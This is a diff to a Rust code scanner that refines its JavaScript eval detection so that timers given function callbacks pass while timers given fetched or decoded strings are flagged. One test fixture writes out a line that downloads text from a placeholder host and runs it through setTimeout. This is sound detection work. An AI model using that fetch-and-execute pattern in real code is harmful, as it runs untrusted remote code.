@@ -421,8 +421,16 @@ fn analyze(ctx: &mut Ctx<'_>, unit: &Unit<'_>, norm: &Norm, lang: Lang) {
                         );
                     }
                 }
-                // exec / eval.
-                let evaluates = evaluator(&name, lang);
+                // exec / eval. A timer given a function runs that function,
+                // not a string: only its string form evaluates (a name
+                // holding decoded or fetched text is such a string).
+                let callback = lang == Lang::Js
+                    && matches!(name.as_str(), "setTimeout" | "setInterval")
+                    && local::callback(arg_tokens)
+                    && !arg_tokens.first().is_some_and(|a| {
+                        decoded_vars.contains(&a.value) || fetched_vars.contains(&a.value)
+                    });
+                let evaluates = evaluator(&name, lang) && !callback;
                 let method = i > 0 && tokens[i - 1].value == "." && !name.contains('.');
                 if evaluates && !method && name != "__import__" {
                     evaluated_strings(ctx, unit, t, &name, args.clone(), norm);
@@ -1217,6 +1225,18 @@ mod tests {
     use crate::finding::Finding;
     use crate::rule::Severity;
     use crate::tests::scan_text;
+
+    #[test]
+    fn a_timer_given_a_function_evaluates_nothing() {
+        let js = "const r = await fetch(u);\nt.current = setTimeout(async () => {\n  const res = await fetch(url);\n  setOk(res.ok);\n}, 500);\n";
+        assert!(
+            flagged("t.tsx", js).is_empty(),
+            "{:?}",
+            flagged("t.tsx", js)
+        );
+        let js = "const code = await (await fetch('https://cdn.example.net/x')).text();\nsetTimeout(code, 10);\n";
+        assert!(!flagged("t.js", js).is_empty());
+    }
 
     /// The rules reported at medium or above.
     fn flagged(path: &str, text: &str) -> Vec<(&'static str, Severity)> {
